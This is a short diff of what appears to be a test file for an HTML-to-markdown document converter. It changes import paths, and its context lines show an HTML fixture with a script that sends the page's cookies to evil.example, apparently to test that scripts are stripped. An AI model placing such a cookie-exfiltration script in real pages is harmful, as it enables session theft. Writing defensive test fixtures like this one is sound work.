@@ -4,8 +4,8 @@ from __future__ import annotations
 
 from intake.convert import convert_document
 from intake.convert.htmldoc import html_to_markdown
-from intake.models import FileType
-from intake.parse import parse_message
+from intake.core.models import FileType
+from intake.mail.parse import parse_message
 
 PAGE = """<html><head><title>t</title><style>p {color: red}</style>
 <script>document.location = "https://evil.example/?" + document.cookie</script></head><body>
